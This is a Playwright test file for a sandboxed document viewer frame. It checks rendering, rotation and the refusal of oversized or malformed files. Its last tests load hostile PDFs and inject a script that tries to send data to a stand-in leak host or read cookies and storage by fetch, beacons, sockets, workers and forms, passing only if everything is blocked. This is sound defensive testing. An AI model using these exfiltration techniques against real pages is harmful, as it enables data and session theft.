import { type Browser, test as base, type Page } from '@playwright/test';
import type { ToFrame, ToPage } from '../../console/viewer/shared/messages.ts';
import {
  announcedJpeg,
  cutPdf,
  fontPdf,
  hugeImagePdf,
  longPdf,
  manyPdf,
  phoneJpeg,
  plainPdf,
  renamed,
  scannedPdf,
  scriptedPdf,
} from '../support/hostile-documents.ts';
import { expect } from '../support/test.ts';
import { viewerServer } from '../support/viewer-server.ts';

type Served = Awaited<ReturnType<typeof viewerServer>>;
/** What the test stores in the page that contains the frame. */
type Held = { received: ToPage[]; send: (message: ToFrame) => void; bytes: (text: string) => ArrayBuffer };

/** A page with an empty frame, and a list of everything that happened but must not. */
const test = base.extend<{ faults: string[]; held: Page }, { served: Served }>({
  served: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright demands the pattern
    async ({}, use) => {
      const served = await viewerServer();
      await use(served);
      served.stop();
    },
    { scope: 'worker' },
  ],
  // biome-ignore lint/correctness/noEmptyPattern: Playwright demands the pattern
  faults: async ({}, use) => {
    await use([]);
  },
  held: async ({ page, served, faults }, use) => {
    page.on('dialog', (dialog) => {
      faults.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('popup', () => faults.push('a window opened'));
    page.on('download', () => faults.push('a download began'));
    page.on('pageerror', (error) => faults.push(`page error ${error.message}`));
    page.on('console', (message) => {
      if (['error', 'warning'].includes(message.type())) faults.push(`console ${message.text()}`);
    });
    page.on('request', (request) => {
      const { origin, pathname } = new URL(request.url());
      const ours =
        `${origin}/` === served.address && /^\/(orbita\/equipe\/(viewer|assets)|console)/.test(pathname);
      const made = request.url().startsWith(`blob:`);
      if (!ours && !made && request.url() !== served.address) faults.push(`request ${request.url()}`);
    });
    const cookie = { name: 'orbita-equipe', value: 'session', url: served.address } as const;
    await page.context().addCookies([{ ...cookie, sameSite: 'Strict' }]);
    await page.goto(served.address);
    expect(served.asked).toContain(`${served.address} with a cookie`);
    await page.evaluate(async () => {
      const { ViewerFrame } = await import('/console/document/viewer/viewer-frame.ts' as string);
      const received: unknown[] = [];
      const frame = new ViewerFrame(document.querySelector('#holder'), 'Documento enviado', (one: unknown) =>
        received.push(one),
      );
      frame.element.width = '500';
      frame.element.height = '700';
      const bytes = (text: string) => Uint8Array.from(atob(text), (one) => one.charCodeAt(0)).buffer;
      Object.assign(window, { held: { received, bytes, send: (message: unknown) => frame.send(message) } });
    });
    await use(page);
    const left = page.frames().map((frame) => new URL(frame.url()).pathname);
    expect(left, 'the frame stays where it is').toEqual(['/', '/orbita/equipe/viewer']);
    expect(faults, 'nothing runs and nothing leaves').toEqual([]);
    expect(served.asked.filter((address) => address.startsWith(served.leak))).toEqual([]);
  },
});

const heldOf = (page: Page) => page.evaluateHandle(() => (window as unknown as { held: Held }).held);

/** Opens a file, the first one by default. */
async function open(page: Page, content: Buffer, file = 0): Promise<ToPage> {
  const held = await heldOf(page);
  await held.evaluate(
    ({ send, bytes }, given) => send({ do: 'open', file: given.file, bytes: bytes(given.text) }),
    { file, text: content.toString('base64') },
  );
  return answer(
    page,
    ({ received }, wanted) =>
      received.find((one) => (one.tell === 'opened' || one.tell === 'unopened') && one.file === wanted),
    file,
  );
}

async function answer(
  page: Page,
  find: (held: Held, key: number) => ToPage | undefined,
  key: number,
): Promise<ToPage> {
  const held = await heldOf(page);
  await expect.poll(() => held.evaluate(find, key), { timeout: 60_000 }).toBeTruthy();
  return (await held.evaluate(find, key)) as ToPage;
}

let asks = 0;
type Wanted = Partial<Extract<ToFrame, { do: 'draw' }>>;

/** Draws a page and waits for the frame's response. */
async function draw(page: Page, wanted: Wanted = {}): Promise<ToPage> {
  asks += 1;
  const held = await heldOf(page);
  const room = { width: 400, height: 600 };
  await held.evaluate(({ send }, message) => send(message as ToFrame), {
    ...({ do: 'draw', ask: asks, file: 0, page: 1, label: 'RG, página 1', zoom: 'page', turn: 0 } as const),
    ...{ room, density: 1, ...wanted },
  });
  return answer(page, ({ received }, ask) => received.find((one) => 'ask' in one && one.ask === ask), asks);
}

const viewerOf = (page: Page) => page.frames()[1]!;

/** Colour of the drawn page at a fraction of its width and height. */
const colourAt = (page: Page, across: number, down: number) =>
  viewerOf(page).evaluate(
    ([x, y]) => {
      const canvas = document.querySelector('canvas') as HTMLCanvasElement;
      const copy = Object.assign(document.createElement('canvas'), {
        width: canvas.width,
        height: canvas.height,
      });
      const drawing = copy.getContext('2d', { willReadFrequently: true }) as CanvasRenderingContext2D;
      drawing.drawImage(canvas, 0, 0);
      const point = drawing.getImageData(Math.floor(canvas.width * x), Math.floor(canvas.height * y), 1, 1);
      return [...point.data].slice(0, 3);
    },
    [across, down] as const,
  );

const GREEN = [0, 128, 0];
const SHOWN = { tell: 'opened', file: 0, pages: 1 };

test.describe('what the frame shows (25.8)', () => {
  test('a PDF: fitted, enlarged, rotated, as a thumbnail, and read aloud', async ({ held }) => {
    expect(await open(held, plainPdf())).toEqual(SHOWN);
    expect(await draw(held)).toMatchObject({ width: 400, height: 600, percent: 75 });
    expect([await colourAt(held, 0.5, 0.75), await colourAt(held, 0.9, 0.1)]).toEqual([
      GREEN,
      [255, 255, 255],
    ]);
    expect(await draw(held, { zoom: 'width', room: { width: 800, height: 100 } })).toMatchObject({
      width: 800,
    });
    expect(await draw(held, { zoom: 400 })).toMatchObject({ width: 2133, height: 3200, percent: 400 });
    expect(await draw(held, { turn: 90 })).toMatchObject({ width: 400, height: 266 });
    // Rotated clockwise, the lower half is on the left.
    expect([await colourAt(held, 0.25, 0.5), await colourAt(held, 0.9, 0.9)]).toEqual([
      GREEN,
      [255, 255, 255],
    ]);
    await expect(held.frameLocator('iframe').getByRole('img', { name: 'RG, página 1' })).toBeVisible();
    await expect(held.frameLocator('iframe').locator('.text')).toHaveText('Exemplo');
    const small = { do: 'thumbnail', ask: 9000, file: 0, page: 1, width: 96, height: 96 } as const;
    await (await heldOf(held)).evaluate(({ send }, message) => send(message), small);
    const received = await answer(
      held,
      ({ received }, ask) => received.find((one) => 'ask' in one && one.ask === ask),
      9000,
    );
    expect(received).toMatchObject({ tell: 'thumbnail', width: 64, height: 96 });
  });

  test('a page scanned by an office machine', async ({ held }) => {
    expect(await open(held, scannedPdf())).toEqual(SHOWN);
    await draw(held);
    expect([await colourAt(held, 0.5, 0.75), await colourAt(held, 0.5, 0.25)]).toEqual([
      [0, 0, 0],
      [255, 255, 255],
    ]);
  });

  test('a photo is rotated as its orientation says', async ({ held, browser }) => {
    const jpeg = await photo(browser);
    expect(await open(held, phoneJpeg(jpeg, 6))).toEqual(SHOWN);
    // The photo is 80 × 40 with red on its left; rotated as the phone was held, it is 40 × 80 with red at the top.
    expect(await draw(held)).toMatchObject({ width: 300, height: 600 });
    const [red, , blue] = await colourAt(held, 0.5, 0.1);
    expect([(red ?? 0) > 200, (blue ?? 255) < 60]).toEqual([true, true]);
    const below = await colourAt(held, 0.5, 0.9);
    expect([(below[0] ?? 255) < 60, (below[2] ?? 0) > 200]).toEqual([true, true]);
  });
});

/** A photo of 80 × 40, red on the left and blue on the right, encoded by the browser itself. */
async function photo(browser: Browser): Promise<Buffer> {
  const page = await browser.newPage();
  const address = await page.evaluate(() => {
    const canvas = document.createElement('canvas');
    [canvas.width, canvas.height] = [80, 40];
    const drawing = canvas.getContext('2d') as CanvasRenderingContext2D;
    drawing.fillStyle = '#f00';
    drawing.fillRect(0, 0, 40, 40);
    drawing.fillStyle = '#00f';
    drawing.fillRect(40, 0, 40, 40);
    return canvas.toDataURL('image/jpeg', 1);
  });
  await page.close();
  return Buffer.from(address.split(',')[1] ?? '', 'base64');
}

test.describe('K02: what the frame refuses', () => {
  const refused: [string, Buffer, string][] = [
    ['a JPEG of 30,000 × 30,000', announcedJpeg(30_000, 30_000), 'too-big'],
    ['a PDF of 400 pages', longPdf(400), 'too-big'],
    ['a JPEG without a picture', announcedJpeg(0, 0), 'broken'],
    ['a PDF that ends in the middle', cutPdf(), 'broken'],
    ['a spreadsheet', Buffer.from('PK\u0003\u0004 xl/workbook.xml', 'latin1'), 'sheet'],
    ...Object.entries(renamed('http://leak.orbita.test')).map(([name, content]): [string, Buffer, string] => [
      `${name} by its content`,
      content,
      'broken',
    ]),
  ];
  for (const [what, content, problem] of refused)
    test(what, async ({ held }) => {
      expect(await open(held, content)).toEqual({ tell: 'unopened', file: 0, problem });
      expect(await draw(held)).toMatchObject({ tell: 'refused', problem });
    });

  test('an image inside a PDF that claims 900 million pixels', async ({ held }) => {
    expect(await open(held, hugeImagePdf())).toEqual(SHOWN);
    expect(await draw(held)).toMatchObject({ tell: 'refused', problem: 'too-big' });
    expect(await open(held, longPdf(300), 1)).toMatchObject({ pages: 300 });
  });
});

test.describe('K02: what hostile files cannot do', () => {
  const hostile: [string, (leak: string) => Buffer][] = [
    ['scripts, a form, links and a launch', scriptedPdf],
    ['a font whose matrix is a program', fontPdf],
    ['a PDF that is a page and a drawing, too', manyPdf],
  ];
  for (const [what, made] of hostile)
    test(what, async ({ held, served }) => {
      expect(await open(held, made(served.leak))).toEqual(SHOWN);
      expect(await draw(held)).toMatchObject({ tell: 'drawn' });
      expect(await colourAt(held, 0.5, 0.75)).toEqual(GREEN);
      const paper = held.locator('iframe');
      await paper.click({ position: { x: 200, y: 300 } });
      await paper.dblclick({ position: { x: 100, y: 500 } });
      await held.keyboard.press('Tab');
      await held.keyboard.press('Enter');
      expect(await viewerOf(held).locator('a, input, form, script:not([src]), iframe').count()).toBe(0);
      // Anything delayed has started by then.
      await held.waitForTimeout(500);
    });

  test('a script that gets into the frame reaches nothing', async ({ held, served, faults }) => {
    await open(held, plainPdf());
    await draw(held);
    const before = served.asked.length;
    const reached = await viewerOf(held).evaluate(async (leak) => {
      const out: string[] = [];
      const attempt = async (name: string, work: () => unknown) => {
        try {
          const result = await work();
          if (result !== undefined) out.push(`${name}: ${String(result)}`);
        } catch {
          // Refused, as it should be.
        }
      };
      // Runs outside the debugger's own script, to which policies do not apply.
      await new Promise((resolve) => setTimeout(resolve));
      const own = new URL('/orbita/api/operations/staff/me', location.href).href;
      for (const address of [leak, own]) {
        await attempt('fetch', async () => (await fetch(address)).status);
        await attempt('no-cors', async () => (await fetch(address, { mode: 'no-cors' })).type);
        // Returns true before it is checked; whether it was sent is known at the destination.
        navigator.sendBeacon(address, 'x');
        await attempt('module', () => import(address));
        await attempt(
          'request',
          () =>
            new Promise((resolve, reject) => {
              const request = new XMLHttpRequest();
              request.onload = () => resolve(request.status);
              request.onerror = reject;
              request.open('GET', address);
              request.send();
            }),
        );
        for (const kind of ['img', 'video', 'script', 'link', 'object'])
          await attempt(
            kind,
            () =>
              new Promise((resolve, reject) => {
                const element = document.createElement(kind);
                element.onload = () => resolve('loaded');
                element.onerror = reject;
                Object.assign(element, { src: address, href: address, rel: 'stylesheet', data: address });
                document.body.append(element);
                setTimeout(reject, 300);
              }),
          );
      }
      const inner = document.createElement('iframe');
      inner.src = leak;
      document.body.append(inner);
      await new Promise((resolve) => setTimeout(resolve, 300));
      inner.remove();
      await attempt('socket', () => {
        const socket = new WebSocket(leak.replace('http', 'ws'));
        return new Promise((resolve, reject) => {
          socket.onopen = () => resolve('open');
          socket.onerror = reject;
        });
      });
      await attempt('events', () => {
        const events = new EventSource(leak);
        return new Promise((resolve, reject) => {
          events.onopen = () => resolve('open');
          events.onerror = reject;
        });
      });
      await attempt('cookie', () => document.cookie);
      await attempt('storage', () => localStorage.length);
      await attempt('database', () => {
        const asked = indexedDB.open('a');
        return new Promise((resolve, reject) => {
          asked.onsuccess = () => resolve('open');
          asked.onerror = reject;
        });
      });
      await attempt('parent', () => parent.document.title);
      await attempt('top', () => {
        top!.location.href = leak;
      });
      await attempt('window', () => window.open(leak) ?? undefined);
      await attempt('dialog', () => alert('x'));
      await attempt('form', () => {
        const form = document.createElement('form');
        form.action = leak;
        document.body.append(form);
        form.submit();
      });
      await attempt('worker', () => {
        const worker = new Worker(leak);
        return new Promise((resolve, reject) => {
          worker.onmessage = () => resolve('message');
          worker.onerror = reject;
        });
      });
      await attempt('worker that asks', () => {
        const text = `fetch('${leak}').then(() => postMessage('fetched'), () => postMessage(''))`;
        const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
        return new Promise((resolve) => {
          worker.onmessage = ({ data }) => resolve(data || undefined);
        });
      });
      await attempt(
        'program from text',
        () =>
          new Promise((resolve, reject) => {
            setTimeout(() => {
              try {
                resolve(new Function('return 1')());
              } catch (error) {
                reject(error);
              }
            });
          }),
      );
      return out;
    }, served.leak);
    expect(reached).toEqual([]);
    // The frame may request scripts from its own server: without credentials, and without reading the response.
    const since = served.asked.slice(before);
    expect(
      since.filter((address) => address.includes('cookie') || !address.startsWith(served.address)),
    ).toEqual([]);
    // The browser reports everything it refused; a request is one that was actually sent.
    faults.splice(0, faults.length, ...faults.filter((fault) => !/^(console|request) /.test(fault)));
  });
});
